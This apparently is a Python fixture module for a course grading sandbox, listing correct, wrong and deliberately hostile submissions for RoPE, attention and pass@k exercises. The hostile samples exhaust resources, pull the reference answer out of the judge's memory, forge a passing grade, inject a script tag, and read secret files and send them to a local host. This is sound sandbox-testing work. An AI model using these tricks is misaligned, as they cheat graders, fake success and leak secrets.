"""The sources that the demo's class hands in: right, wrong as learners are, and hostile.

Nothing here is run by this package: they are texts, put into notebooks and graded in the sandbox.
"""

ROPE = "architecture/rope"
ATTENTION = "architecture/grouped_query_attention"
PASS = "evaluation/pass_at_k"
FUNCTIONS = {ROPE: "my_rope", ATTENTION: "my_attention", PASS: "my_pass_at_k"}
STUBS = {
    ROPE: "def my_rope(x, positions):\n    raise NotImplementedError",
    ATTENTION: "def my_attention(q, k, v, mask):\n    raise NotImplementedError",
    PASS: "def my_pass_at_k(counts, k):\n    raise NotImplementedError",
}

_ROPE = """\
def my_rope(x, positions):
    d_head = x.shape[-1]
    rates = BASE ** -(torch.arange(0, d_head, 2) / d_head)
    angles = {positions}[:, None, :, None] * rates
    {halves}
    first = a * angles.cos() {minus} b * angles.sin()
    second = b * angles.cos() {plus} a * angles.sin()
    return {joined}
"""
_ROPE_PARTS = {
    "positions": "positions",
    "halves": "a, b = x.chunk(2, dim=-1)",
    "minus": "-",
    "plus": "+",
    "joined": "torch.cat((first, second), dim=-1)",
}


def _rope(**changed: str) -> str:
    return _ROPE.format(**{**_ROPE_PARTS, **changed})


_ATTENTION = """\
def my_attention(q, k, v, mask):
    group = q.shape[1] // k.shape[1]
    k, v = {repeat}
    scores = q @ k.transpose(-1, -2) {scale}
    scores = {masked}
    return scores.softmax(dim=-1) @ v
"""
_ATTENTION_PARTS = {
    "repeat": "k.repeat_interleave(group, dim=1), v.repeat_interleave(group, dim=1)",
    "scale": "/ q.shape[-1] ** 0.5",
    "masked": 'scores.masked_fill(~mask[:, None], float("-inf"))',
}


def _attention(**changed: str) -> str:
    return _ATTENTION.format(**{**_ATTENTION_PARTS, **changed})


GOOD = {
    ROPE: (
        _rope(),
        """\
def rotate_half(x):
    half = x.shape[-1] // 2
    return torch.cat((-x[..., half:], x[..., :half]), dim=-1)

def my_rope(x, positions):
    d_head = x.shape[-1]
    inv_freq = 1.0 / BASE ** (torch.arange(0, d_head, 2).float() / d_head)
    angles = torch.einsum("bs,c->bsc", positions.float(), inv_freq)[:, None]
    angles = torch.cat((angles, angles), dim=-1)
    return x * angles.cos() + rotate_half(x) * angles.sin()
""",
    ),
    ATTENTION: (
        _attention(),
        """\
def my_attention(q, k, v, mask):
    heads = torch.arange(q.shape[1]) * k.shape[1] // q.shape[1]
    k, v = k[:, heads], v[:, heads]
    scores = torch.einsum("bhqd,bhkd->bhqk", q, k) / math.sqrt(q.shape[-1])
    weights = torch.where(mask[:, None], scores, -torch.inf).softmax(-1)
    return torch.einsum("bhqk,bhkd->bhqd", weights, v)
""",
    ),
    PASS: (
        """\
def my_pass_at_k(counts, k):
    total = 0.0
    for n, c in counts:
        if k > n:
            raise ValueError(f"cannot draw {k} of {n}")
        total += 1 - math.comb(n - c, k) / math.comb(n, k)
    return total / len(counts)
""",
    ),
}
WRONG = {
    ROPE: (
        _rope(minus="+", plus="-"),
        _rope(positions="(positions + 1)"),
        _rope(plus="-"),
        _rope(
            halves="a, b = x[..., 0::2], x[..., 1::2]",
            joined="torch.stack((first, second), dim=-1).flatten(-2)",
        ),
        "def my_rope(x, positions)\n    return x\n",
    ),
    ATTENTION: (
        _attention(scale=""),
        _attention(scale="/ q.shape[-1]"),
        _attention(repeat="k.repeat(1, group, 1, 1), v.repeat(1, group, 1, 1)"),
        _attention(masked="scores.masked_fill(~mask[:, None], 0.0)"),
        "def my_attention(q, k, v, mask):\n    return torch.zeros_like(q)\n",
    ),
    PASS: (
        "def my_pass_at_k(counts, k):\n    return sum(1 - (1 - c / n) ** k for n, c in counts) / "
        "len(counts)\n",
        "def my_pass_at_k(counts, k):\n    return sum(c / n for n, c in counts) / len(counts)\n",
        "def my_pass_at_k(counts, k):\n    return sum(c >= 1 for n, c in counts) / len(counts)\n",
        "def my_pass_at_k(counts, k):\n    return 1.0\n",
    ),
}
# What each tries; all of them answer the attention exercise, and nothing else.
HOSTILE = {
    "never ends": """\
def my_attention(q, k, v, mask):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "looks for the right answer in the judge's frames": """\
def my_attention(q, k, v, mask):
    import gc, sys
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if callable(getattr(value, "reference", None)):
                return value.reference(q, k, v, mask)
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == "Exercise":
            return thing.reference(q, k, v, mask)
    return q
""",
    "forges the reply and leaves": """\
import os, sys

def my_attention(q, k, v, mask):
    forged = b'{"status": "passed", "points": 10}\\n'
    for fd in range(1, 16):
        try:
            os.write(fd, forged)
        except OSError:
            pass
    os._exit(0)
""",
    "takes all memory": """\
def my_attention(q, k, v, mask):
    held = []
    while True:
        held.append(torch.ones(50_000_000))
""",
    "equal to everything, and loud about it": """\
class Same(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

def my_attention(q, k, v, mask):
    raise ValueError("\\x1b[32mPASSED\\x1b[0m <script>alert(1)</script> 10 of 10 points")
""",
    "reads the secret and calls home": """\
def my_attention(q, k, v, mask):
    import glob, urllib.request
    found = [open(path).read() for path in glob.glob("/**/*.secret", recursive=True)]
    urllib.request.urlopen("http://127.0.0.1:8000/?" + str(found)[:100], timeout=1)
    return q
""",
}
